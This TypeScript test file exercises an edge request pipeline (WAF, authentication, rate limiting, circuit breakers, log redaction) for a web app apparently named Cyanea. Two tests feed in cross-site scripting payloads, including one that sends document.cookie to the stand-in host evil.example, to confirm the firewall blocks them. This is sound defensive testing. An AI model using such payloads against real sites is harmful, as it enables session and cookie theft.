import { encode } from "next-auth/jwt";
import { afterEach, describe, expect, it, vi } from "vitest";
import { formatApiKey } from "@/lib/domain/api-key-format";
import { createPipelineConfig, type PipelineConfigOverrides, type Stage, type StageDecision } from "./config";
import { DEFAULT_STAGES, breakerState, runPipeline } from "./pipeline";

const SECRET = "pipeline-test-secret-0123456789abcdef";
const COOKIE = "authjs.session-token";

function setup(overrides: PipelineConfigOverrides = {}) {
  let now = Date.UTC(2026, 0, 1);
  const config = createPipelineConfig({ now: () => now, ...overrides }, { AUTH_SECRET: SECRET, CYANEA_LOG_HASH_SALT: "salt" });
  return { config, advance: (ms: number) => (now += ms) };
}

const req = (path: string, init: RequestInit = {}) => new Request(`http://localhost:3000${path}`, init);
const stage = (name: string, run: Stage["run"]): Stage => ({ name, run });
const constant = (name: string, d: StageDecision) => stage(name, async () => d);

afterEach(() => vi.useRealTimers());

describe("runPipeline: defaults", () => {
  it("lets an anonymous read through with trace ids, stripped identity headers and Server-Timing", async () => {
    const { config } = setup();
    const r = await runPipeline(
      req("/api/datasets", { headers: { "x-user-id": "admin-1", "x-user-role": "admin", traceparent: "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01", "x-real-ip": "192.0.2.1" } }),
      config,
    );
    expect(r.response).toBeNull();
    expect(r.requestHeaders.has("x-user-id")).toBe(false);
    expect(r.requestHeaders.has("x-user-role")).toBe(false);
    expect(r.requestHeaders.get("traceparent")).toMatch(/^00-4bf92f3577b34da6a3ce929d0e0e4736-[0-9a-f]{16}-01$/);
    expect(r.requestHeaders.get("x-request-id")).toBe(r.responseHeaders.get("x-request-id"));
    expect(r.responseHeaders.get("server-timing")).toMatch(/^trace;dur=[\d.]+, waf;dur=[\d.]+, auth;dur=[\d.]+, rateLimit;dur=[\d.]+, bodySchema;dur=[\d.]+, edge;dur=[\d.]+$/);
    expect(r.responseHeaders.get("ratelimit-policy")).toBe('"read";q=1200;w=60');
    expect(r.log).toMatchObject({ msg: "edge_decision", traceId: "4bf92f3577b34da6a3ce929d0e0e4736", route: "/api/datasets", outcome: "allow", status: 200, rateLimitClass: "read" });
    expect(r.log.stages.map((s) => [s.name, s.outcome])).toEqual([["trace", "mutate"], ["waf", "allow"], ["auth", "mutate"], ["rateLimit", "mutate"], ["bodySchema", "allow"]]);
    expect(r.log.clientKeyHash).toMatch(/^[0-9a-f]{16}$/);
  });

  it("passes a verified identity to route code", async () => {
    const { config } = setup();
    const token = await encode({ token: { sub: "user-9", role: "researcher" }, secret: SECRET, salt: COOKIE });
    const r = await runPipeline(req("/api/me", { headers: { cookie: `${COOKIE}=${token}`, "x-user-id": "someone-else" } }), config);
    expect(r.requestHeaders.get("x-user-id")).toBe("user-9");
    expect(r.requestHeaders.get("x-user-role")).toBe("researcher");
    expect(r.log.userId).toBe("user-9");
  });

  it("renders blocks as problem+json with the request id and accumulated headers", async () => {
    const { config } = setup();
    const r = await runPipeline(req("/api/protocols", { method: "POST", body: "{}", headers: { "content-type": "application/json", "x-request-id": "req-abcdefgh" } }), config);
    expect(r.response?.status).toBe(401);
    expect(r.response?.headers.get("content-type")).toBe("application/problem+json");
    expect(r.response?.headers.get("x-request-id")).toBe("req-abcdefgh");
    expect(r.response?.headers.get("server-timing")).toContain("auth;dur=");
    expect(await r.response?.json()).toMatchObject({ status: 401, code: "unauthenticated", requestId: "req-abcdefgh", type: "https://cyanea.dev/problems/unauthenticated" });
    expect(r.log).toMatchObject({ outcome: "block", status: 401 });
    expect(r.log.stages.map((s) => s.name)).toEqual(["trace", "waf", "auth"]); // later stages skipped
  });

  it("answers a blocked server action in the plain text its client shows, with the request id", async () => {
    const { config } = setup();
    const form = new FormData();
    form.append("1_email", "someone@example.org");
    form.append("1_name", "<script>document.location='http://evil.example/?c='+document.cookie</script>");
    const r = await runPipeline(req("/signup", { method: "POST", body: form, headers: { "next-action": "7f00", "x-request-id": "req-abcdefgh" } }), config);
    expect(r.response?.status).toBe(403);
    expect(r.response?.headers.get("content-type")).toBe("text/plain");
    const text = await r.response!.text();
    expect(text).toContain("web application firewall");
    expect(text).toContain("(request id req-abcdefgh)");
  });

  it("answers a person loading a page with an HTML page, not problem+json, and escapes what it shows", async () => {
    const { config } = setup();
    const r = await runPipeline(req("/explore/tag/%3Cscript%3Ealert(document.cookie)%3C/script%3E", { headers: { accept: "text/html,application/xhtml+xml", "x-request-id": "req-abcdefgh" } }), config);
    expect(r.response?.status).toBe(403);
    expect(r.response?.headers.get("content-type")).toBe("text/html; charset=utf-8");
    const html = await r.response!.text();
    expect(html).toContain("<title>Forbidden · Cyanea</title>");
    expect(html).toContain("req-abcdefgh");
    expect(html).not.toContain("<script");
    // API calls keep problem+json whatever they accept.
    const api = await runPipeline(req("/api/datasets?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", { headers: { accept: "text/html" } }), config);
    expect(api.response?.headers.get("content-type")).toBe("application/problem+json");
  });

  it("redirects anonymous /app views to sign-in", async () => {
    const { config } = setup();
    const r = await runPipeline(req("/app/protocols"), config);
    expect(r.response?.status).toBe(302);
    expect(r.response?.headers.get("location")).toBe("http://localhost:3000/signin?callbackUrl=%2Fapp%2Fprotocols");
  });

  it("validates bodies of authenticated writes (API key) and returns JSON pointers", async () => {
    const { config } = setup();
    const key = formatApiKey("abcdefghij12", "0123456789abcdefghijklmnopqrstuv");
    const r = await runPipeline(
      req("/api/labs", { method: "POST", body: JSON.stringify({ name: 1 }), headers: { "content-type": "application/json", authorization: `Bearer ${key}` } }),
      config,
    );
    expect(r.response?.status).toBe(400);
    expect((await r.response?.json()).errors).toEqual([{ pointer: "/name", detail: "must be a string" }]);
  });

  it("answers a burst beyond a class limit 429 with headers and recovers after the window", async () => {
    const { config, advance } = setup();
    // A different account each time: this is the per-address bucket (accounts have their own).
    let n = 0;
    const signin = () => req("/api/auth/callback/credentials", { method: "POST", headers: { "x-real-ip": "203.0.113.1", "content-type": "application/x-www-form-urlencoded" }, body: `email=a${n++}` });
    for (let i = 0; i < 10; i++) expect((await runPipeline(signin(), config)).response).toBeNull();
    const blocked = await runPipeline(signin(), config);
    expect(blocked.response?.status).toBe(429);
    expect(blocked.response?.headers.get("retry-after")).toBe("6");
    expect(blocked.response?.headers.get("ratelimit-policy")).toBe('"signin";q=10;w=60');
    expect(blocked.response?.headers.get("ratelimit")).toBe('"signin";r=0;t=6');
    expect(blocked.log.stages.at(-1)).toMatchObject({ name: "rateLimit", outcome: "block", reason: "rate_limited:signin", status: 429 });
    advance(60_000);
    const again = await runPipeline(signin(), config);
    expect(again.response).toBeNull();
    expect(again.responseHeaders.get("ratelimit")).toBe('"signin";r=9;t=6');
  });
});

describe("runPipeline: merge rules", () => {
  it("accumulates header mutations in order and lets a block win", async () => {
    const { config } = setup();
    const stages = [
      constant("trace", { kind: "mutate", requestHeaders: { "x-a": "1", "x-b": "1" }, responseHeaders: { "x-r": "1" } }),
      constant("waf", { kind: "mutate", requestHeaders: { "x-b": "2", "x-gone": null }, responseHeaders: { "x-s": "2" } }),
      constant("auth", { kind: "allow" }),
    ];
    const r = await runPipeline(req("/x", { headers: { "x-gone": "here" } }), config, { stages });
    expect(r.response).toBeNull();
    expect([r.requestHeaders.get("x-a"), r.requestHeaders.get("x-b"), r.requestHeaders.has("x-gone")]).toEqual(["1", "2", false]);
    expect([r.responseHeaders.get("x-r"), r.responseHeaders.get("x-s")]).toEqual(["1", "2"]);

    const later = vi.fn(async (): Promise<StageDecision> => ({ kind: "allow" }));
    const blocked = await runPipeline(req("/x"), config, {
      stages: [stages[0]!, constant("waf", { kind: "block", status: 403, reason: "waf_block", problem: { type: "t", title: "Forbidden", status: 403, detail: "d", code: "forbidden" } }), stage("auth", later)],
    });
    expect(blocked.response?.status).toBe(403);
    expect(blocked.response?.headers.get("x-r")).toBe("1"); // headers of earlier stages still apply
    expect(later).not.toHaveBeenCalled();
  });

  it("lets no stage force a request through: a 2xx 'block' is a stage failure", async () => {
    const { config } = setup();
    const r = await runPipeline(req("/x"), config, { stages: [constant("waf", { kind: "block", status: 200, reason: "sneaky" })] });
    expect(r.response?.status).toBe(503);
    expect(r.log.stages[0]).toMatchObject({ outcome: "error-closed" });
  });

  it("only the auth stage may set identity headers; client copies are always stripped", async () => {
    const { config } = setup({ stages: { auth: { enabled: false } } });
    const r = await runPipeline(req("/x", { headers: { "x-user-id": "spoof", "x-user-role": "admin" } }), config, {
      stages: [constant("waf", { kind: "mutate", requestHeaders: { "x-user-id": "evil", "X-User-Role": "admin" } }), ...DEFAULT_STAGES],
    });
    expect(r.requestHeaders.has("x-user-id")).toBe(false);
    expect(r.requestHeaders.has("x-user-role")).toBe(false);
    expect(r.log.stages.find((s) => s.name === "auth")?.outcome).toBe("skipped");
  });

  it("fills in trace ids when the trace stage fails open", async () => {
    const { config } = setup();
    const r = await runPipeline(req("/x"), config, { stages: [stage("trace", async () => { throw new Error("boom"); })] });
    expect(r.response).toBeNull();
    expect(r.requestHeaders.get("traceparent")).toMatch(/^00-[0-9a-f]{32}-[0-9a-f]{16}-01$/);
    expect(r.requestHeaders.get("x-request-id")).toBeTruthy();
    expect(r.log.stages[0]).toMatchObject({ name: "trace", outcome: "error-open", reason: "stage_error" });
  });
});

describe("runPipeline: fault injection", () => {
  const throwing = (name: string) => stage(name, async () => { throw new Error("stage crashed"); });
  const syncThrowing = (name: string): Stage => ({ name, run: () => { throw new Error("sync crash"); } });
  const slow = (name: string, ms: number) => stage(name, () => new Promise<StageDecision>((resolve) => setTimeout(() => resolve({ kind: "allow" }), ms)));

  it("a throwing closed stage → 503 problem+json; a throwing open stage → allowed", async () => {
    const { config } = setup();
    const closed = await runPipeline(req("/api/x"), config, { stages: [throwing("auth")] });
    expect(closed.response?.status).toBe(503);
    expect(await closed.response?.json()).toMatchObject({ code: "edge_unavailable", title: "Edge stage unavailable", status: 503 });
    expect(closed.log.stages[0]).toMatchObject({ outcome: "error-closed", reason: "auth:stage_error", status: 503 });

    const open = await runPipeline(req("/api/x"), config, { stages: [throwing("rateLimit"), syncThrowing("trace")] });
    expect(open.response).toBeNull();
    expect(open.log.stages.map((s) => s.outcome)).toEqual(["error-open", "error-open"]);
  });

  it("a stage over its budget → its failure mode; its late result is discarded", async () => {
    const { config } = setup({ stages: { waf: { budgetMs: 20 }, rateLimit: { budgetMs: 20 } } });
    const late = stage("rateLimit", () => new Promise<StageDecision>((resolve) => setTimeout(() => resolve({ kind: "block", status: 429, reason: "late" }), 200)));
    const open = await runPipeline(req("/x"), config, { stages: [late] });
    expect(open.response).toBeNull();
    expect(open.log.stages[0]).toMatchObject({ outcome: "timeout-open", reason: "stage_timeout" });
    expect(open.log.stages[0]!.durationMs).toBeLessThan(150);

    const closed = await runPipeline(req("/x"), config, { stages: [slow("waf", 200)] });
    expect(closed.response?.status).toBe(503);
    expect(closed.log.stages[0]).toMatchObject({ outcome: "timeout-closed" });
  });

  it("breaker: opens after N failures, skips the stage while open, half-opens after the cool-down, closes on a good probe", async () => {
    const { config, advance } = setup({ stages: { waf: { breaker: { failureThreshold: 3, windowMs: 10_000, coolDownMs: 5_000, halfOpenSuccesses: 1 } } } });
    let healthy = false;
    const calls = vi.fn();
    const flaky = stage("waf", async () => {
      calls();
      if (!healthy) throw new Error("down");
      return { kind: "allow" };
    });
    for (let i = 0; i < 3; i++) expect((await runPipeline(req("/x"), config, { stages: [flaky] })).response?.status).toBe(503);
    expect(breakerState(config, "waf")).toBe("open");
    expect(calls).toHaveBeenCalledTimes(3);

    const refused = await runPipeline(req("/x"), config, { stages: [flaky] });
    expect(refused.response?.status).toBe(503); // closed failure mode, stage not called
    expect(refused.log.stages[0]).toMatchObject({ outcome: "breaker-closed", reason: "waf:breaker_open" });
    expect(calls).toHaveBeenCalledTimes(3);

    advance(5_000);
    expect(breakerState(config, "waf")).toBe("half-open");
    const failedProbe = await runPipeline(req("/x"), config, { stages: [flaky] });
    expect(failedProbe.response?.status).toBe(503);
    expect(calls).toHaveBeenCalledTimes(4);
    expect(breakerState(config, "waf")).toBe("open");

    advance(5_000);
    healthy = true;
    const probe = await runPipeline(req("/x"), config, { stages: [flaky] });
    expect(probe.response).toBeNull();
    expect(breakerState(config, "waf")).toBe("closed");
    expect((await runPipeline(req("/x"), config, { stages: [flaky] })).response).toBeNull();
    expect(calls).toHaveBeenCalledTimes(6);
  });

  it("an open breaker on a fail-open stage lets requests through without calling it", async () => {
    const { config } = setup({ stages: { rateLimit: { breaker: { failureThreshold: 1, windowMs: 1_000, coolDownMs: 60_000, halfOpenSuccesses: 1 } } } });
    const calls = vi.fn();
    const broken = stage("rateLimit", async () => { calls(); throw new Error("x"); });
    await runPipeline(req("/x"), config, { stages: [broken] });
    const r = await runPipeline(req("/x"), config, { stages: [broken] });
    expect(r.response).toBeNull();
    expect(r.log.stages[0]).toMatchObject({ outcome: "breaker-open" });
    expect(calls).toHaveBeenCalledTimes(1);
  });

  it("timeouts count as breaker failures", async () => {
    const { config } = setup({ stages: { waf: { budgetMs: 5, breaker: { failureThreshold: 2, windowMs: 10_000, coolDownMs: 5_000, halfOpenSuccesses: 1 } } } });
    for (let i = 0; i < 2; i++) await runPipeline(req("/x"), config, { stages: [slow("waf", 50)] });
    expect(breakerState(config, "waf")).toBe("open");
  });

  it("breaker state is per config (per process in the edge runtime)", async () => {
    const a = setup({ stages: { waf: { breaker: { failureThreshold: 1, windowMs: 1_000, coolDownMs: 60_000, halfOpenSuccesses: 1 } } } });
    const b = setup();
    await runPipeline(req("/x"), a.config, { stages: [throwing("waf")] });
    expect(breakerState(a.config, "waf")).toBe("open");
    expect(breakerState(b.config, "waf")).toBe("closed");
  });
});

describe("decision log", () => {
  it("never contains credentials, cookies, passwords or bodies", async () => {
    const { config } = setup();
    const token = await encode({ token: { sub: "user-1", role: "researcher" }, secret: SECRET, salt: COOKIE });
    const password = "correct horse battery staple";
    const r = await runPipeline(
      req("/api/account/signup?token=secret-query", {
        method: "POST",
        headers: { "content-type": "application/json", cookie: `${COOKIE}=${token}`, authorization: "Bearer cyk_not_a_key", "x-real-ip": "192.0.2.44" },
        body: JSON.stringify({ email: "a@b.co", password, name: "A" }),
      }),
      config,
    );
    const text = JSON.stringify(r.log);
    for (const secret of [token, password, "cyk_not_a_key", "secret-query", "192.0.2.44", "a@b.co"]) expect(text).not.toContain(secret);
    expect(r.log.route).toBe("/api/account/signup");
  });
});

describe("runPipeline: synchronous overrun", () => {
  it("uses the decision of a stage that finished late but counts it against the breaker", async () => {
    const { config } = setup({ stages: { auth: { budgetMs: 5, breaker: { failureThreshold: 2, windowMs: 10_000, coolDownMs: 5_000, halfOpenSuccesses: 1 } } } });
    const busy = stage("auth", async () => {
      const end = performance.now() + 15;
      while (performance.now() < end); // CPU-bound: the budget timer cannot fire meanwhile
      return { kind: "mutate", responseHeaders: { "x-busy": "1" } };
    });
    const first = await runPipeline(req("/x"), config, { stages: [busy] });
    expect(first.response).toBeNull();
    expect(first.responseHeaders.get("x-busy")).toBe("1");
    expect(first.log.stages[0]).toMatchObject({ outcome: "mutate", overBudget: true });
    await runPipeline(req("/x"), config, { stages: [busy] });
    expect(breakerState(config, "auth")).toBe("open");
    expect((await runPipeline(req("/x"), config, { stages: [busy] })).response?.status).toBe(503);
  });
});
